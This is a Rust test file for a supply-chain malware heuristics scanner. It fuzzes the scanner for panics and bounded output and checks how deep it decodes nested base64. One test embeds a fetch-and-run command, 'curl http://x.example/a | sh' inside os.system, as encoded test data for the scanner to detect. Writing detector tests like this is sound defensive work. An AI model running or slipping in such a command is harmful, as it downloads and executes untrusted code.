//! Hostile input never panics and stays bounded.

use chainwarden_heuristics::{analyze_pth, scan_source, verdict};
use proptest::prelude::*;

const PATHS: [&str; 6] = [
    "a.py",
    "b.js",
    "c.pth",
    "package/package.json",
    "pyproject.toml",
    "setup.py",
];

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, .. ProptestConfig::default() })]

    #[test]
    fn arbitrary_bytes_never_panic(bytes in proptest::collection::vec(any::<u8>(), 0..2048)) {
        for p in PATHS {
            let hits = scan_source(p, &bytes);
            let _ = verdict(&hits, None);
        }
        let _ = analyze_pth("x.pth", &String::from_utf8_lossy(&bytes));
    }

    #[test]
    fn code_like_soup_never_panics(s in r#"(import |exec\(|'|"|"""|`|\$\{|\}|/|\*|#|\\|\n|b64decode\(|aGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=|\\x41|chr\(65\)\+|é|[a-z]{1,4}){0,200}"#) {
        for p in PATHS {
            let hits = scan_source(p, s.as_bytes());
            for h in &hits {
                prop_assert!(h.snippet.chars().count() <= 161);
                prop_assert!(h.layer <= 3);
            }
        }
    }
}

#[test]
fn nested_encodings_stop_at_depth_three() {
    // base64 of base64 of … 6 times around an exec line: layers beyond 3 are not decoded.
    use base64::Engine as _;
    let mut payload = "import os\nos.system('curl http://x.example/a | sh')\n".to_string();
    for _ in 0..6 {
        payload = base64::engine::general_purpose::STANDARD.encode(payload);
    }
    let src = format!("x = '{payload}'\n");
    let hits = scan_source("a.py", src.as_bytes());
    assert!(hits.iter().all(|h| h.layer <= 3));
    assert!(
        !hits
            .iter()
            .any(|h| h.rule_id() == "heuristic/download-exec-pipe-shell")
    );
    // Three layers deep is still found.
    let mut payload = "import os\nos.system('curl http://x.example/a | sh')\n".to_string();
    for _ in 0..3 {
        payload = base64::engine::general_purpose::STANDARD.encode(payload);
    }
    let src = format!("x = '{payload}'\n");
    let hits = scan_source("a.py", src.as_bytes());
    let h = hits
        .iter()
        .find(|h| h.rule_id() == "heuristic/download-exec-pipe-shell")
        .unwrap_or_else(|| panic!("{hits:#?}"));
    assert_eq!(h.layer, 3);
    assert_eq!(h.line, 1);
}

#[test]
fn huge_minified_line_is_bounded() {
    let line = "var a=function(){return 'x'};".repeat(300_000); // ~8.7 MB
    let start = std::time::Instant::now();
    let _ = scan_source("big.js", line.as_bytes());
    assert!(start.elapsed().as_secs() < 120);
}
